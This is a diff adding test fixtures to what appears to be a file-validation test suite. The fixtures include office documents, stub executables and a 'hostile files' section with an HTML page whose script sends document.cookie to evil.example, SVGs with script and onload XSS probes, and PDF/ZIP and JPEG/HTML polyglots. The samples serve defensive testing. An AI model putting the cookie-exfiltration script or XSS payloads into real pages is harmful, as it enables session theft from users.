@@ -259,3 +259,160 @@ export function png(options: { width?: number; height?: number; text?: Record<st
     pngChunk("IEND", Buffer.alloc(0)),
   ]);
 }
+
+/** A 32×24 JPEG (JFIF, no EXIF), made once with GdkPixbuf; tests add EXIF to copies with exiftool. */
+export const JPEG_BASE = Buffer.from(
+  "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAoHBwgHBgoICAgLCgoLDhgQDg0NDh0VFhEYIx8lJCIfIiEmKzcvJik0KSEiMEExNDk7Pj4+JS5ESUM8SDc9Pjv/2wBDAQoLCw4NDhwQEBw7KCIoOzs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozv/wAARCAAYACADASIAAhEBAxEB/8QAHwAAAQUBAQEBAQEAAAAAAAAAAAECAwQFBgcICQoL/8QAtRAAAgEDAwIEAwUFBAQAAAF9AQIDAAQRBRIhMUEGE1FhByJxFDKBkaEII0KxwRVS0fAkM2JyggkKFhcYGRolJicoKSo0NTY3ODk6Q0RFRkdISUpTVFVWV1hZWmNkZWZnaGlqc3R1dnd4eXqDhIWGh4iJipKTlJWWl5iZmqKjpKWmp6ipqrKztLW2t7i5usLDxMXGx8jJytLT1NXW19jZ2uHi4+Tl5ufo6erx8vP09fb3+Pn6/8QAHwEAAwEBAQEBAQEBAQAAAAAAAAECAwQFBgcICQoL/8QAtREAAgECBAQDBAcFBAQAAQJ3AAECAxEEBSExBhJBUQdhcRMiMoEIFEKRobHBCSMzUvAVYnLRChYkNOEl8RcYGRomJygpKjU2Nzg5OkNERUZHSElKU1RVVldYWVpjZGVmZ2hpanN0dXZ3eHl6goOEhYaHiImKkpOUlZaXmJmaoqOkpaanqKmqsrO0tba3uLm6wsPExcbHyMnK0tPU1dbX2Nna4uPk5ebn6Onq8vP09fb3+Pn6/9oADAMBAAIRAxEAPwDB8EW/+r49K3PiXIpn0CxVvmRZZXXHYlQpz/wFqreCLf8A1fHpR48lFz48ggUMBa2ccZB6ZJZ8j8GH5U5boIbNrt/wDrPBUIVUYjgDNefeEvNvLprmYlpZnMjsSSSxOSea7pSLTwRq85dUK2EoVmIHzFCB19yK5PwRb/6vj0oXxv0/z/yF9k2vBFv/AKvj0rB1WUX/AMRdWmCgbbgQ8HP+rUJ/7LRRTt71xpLkfy/U6bxY623w2vELlGuHhiTGeT5isRx7Kao+CLf/AFfHpRRSju/66DnG0Y+av+LX6H//2Q==",
+  "base64",
+);
+
+// ───────────────────────────── office documents other than DOCX ─────────────────────────────
+
+/** An OpenDocument text (kind "text") or spreadsheet ("spreadsheet") with an initial creator in meta.xml. */
+export function odf(kind: "text" | "spreadsheet", options: { author?: string } = {}): Buffer {
+  const mimetype = `application/vnd.oasis.opendocument.${kind}`;
+  const body =
+    kind === "text"
+      ? "<office:text><text:p>Hello</text:p></office:text>"
+      : '<office:spreadsheet><table:table table:name="S"><table:table-row><table:table-cell office:value-type="string"><text:p>1</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>';
+  const ns =
+    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" ' +
+    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" ' +
+    'xmlns:dc="http://purl.org/dc/elements/1.1/" office:version="1.3"';
+  return zip([
+    { name: "mimetype", data: mimetype, store: true },
+    {
+      name: "META-INF/manifest.xml",
+      data: xml(
+        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">' +
+          `<manifest:file-entry manifest:full-path="/" manifest:media-type="${mimetype}"/>` +
+          '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>' +
+          '<manifest:file-entry manifest:full-path="meta.xml" manifest:media-type="text/xml"/>' +
+          "</manifest:manifest>",
+      ),
+    },
+    {
+      name: "content.xml",
+      data: xml(
+        `<office:document-content ${ns}><office:body>${body}</office:body></office:document-content>`,
+      ),
+    },
+    {
+      name: "meta.xml",
+      data: xml(
+        `<office:document-meta ${ns}><office:meta><meta:initial-creator>${escapeXml(options.author ?? "")}</meta:initial-creator>` +
+          `<dc:creator>${escapeXml(options.author ?? "")}</dc:creator><meta:generator>LibreOffice/7.4</meta:generator></office:meta></office:document-meta>`,
+      ),
+    },
+  ]);
+}
+
+/** An Excel workbook with one cell and a creator. */
+export function xlsx(options: { author?: string } = {}): Buffer {
+  return zip([
+    {
+      name: "[Content_Types].xml",
+      data: xml(
+        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
+          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
+          '<Default Extension="xml" ContentType="application/xml"/>' +
+          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
+          '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' +
+          '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>' +
+          "</Types>",
+      ),
+    },
+    {
+      name: "_rels/.rels",
+      data: xml(
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
+          '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>' +
+          '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>' +
+          "</Relationships>",
+      ),
+    },
+    {
+      name: "xl/workbook.xml",
+      data: xml(
+        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">' +
+          '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
+      ),
+    },
+    {
+      name: "xl/_rels/workbook.xml.rels",
+      data: xml(
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
+          '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>' +
+          "</Relationships>",
+      ),
+    },
+    {
+      name: "xl/worksheets/sheet1.xml",
+      data: xml(
+        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>',
+      ),
+    },
+    {
+      name: "docProps/core.xml",
+      data: xml(
+        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">' +
+          `<dc:creator>${escapeXml(options.author ?? "")}</dc:creator></cp:coreProperties>`,
+      ),
+    },
+  ]);
+}
+
+// ───────────────────────────── hostile files ─────────────────────────────
+
+/** The start of a Windows executable (DOS header pointing at a PE header), padded. */
+export function windowsExecutable(): Buffer {
+  const exe = Buffer.alloc(1024);
+  exe.write("MZ", 0, "latin1");
+  exe.writeUInt32LE(0x80, 0x3c);
+  exe.write("PE\0\0", 0x80, "latin1");
+  exe.writeUInt16LE(0x14c, 0x84); // i386
+  exe.write("This program cannot be run in DOS mode.", 0x4e, "latin1");
+  return exe;
+}
+
+/** The start of a Linux ELF executable. */
+export function elfExecutable(): Buffer {
+  const elf = Buffer.alloc(512);
+  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(elf);
+  elf.writeUInt16LE(2, 16); // ET_EXEC
+  elf.writeUInt16LE(0x3e, 18); // x86-64
+  return elf;
+}
+
+export const HTML_PAGE = Buffer.from(
+  '<!DOCTYPE html>\n<html><head><title>Invoice</title></head><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>\n',
+);
+
+export const SVG_WITH_SCRIPT = Buffer.from(
+  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>\n',
+);
+
+export const SVG_WITH_XML_DECLARATION = Buffer.from(
+  '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="10" height="10"></svg>\n',
+);
+
+/** A real PDF with a ZIP archive appended: PDF readers and ZIP readers both open it. */
+export function pdfZipPolyglot(): Buffer {
+  return Buffer.concat([pdf({ text: "Invoice" }), zip([{ name: "payload.js", data: "WScript.Echo(1)" }])]);
+}
+
+/** A JPEG with an HTML page appended after its end. */
+export function jpegHtmlPolyglot(): Buffer {
+  return Buffer.concat([JPEG_BASE, HTML_PAGE]);
+}
+
+/** A plain ZIP archive. */
+export function zipArchive(): Buffer {
+  return zip([{ name: "notes.txt", data: "hello" }]);
+}
+
+/** The first part of a PDF, as left by a download that stopped halfway. */
+export function truncatedPdf(): Buffer {
+  const whole = scanLikePdf(200_000);
+  return whole.subarray(0, Math.floor(whole.length / 2));
+}
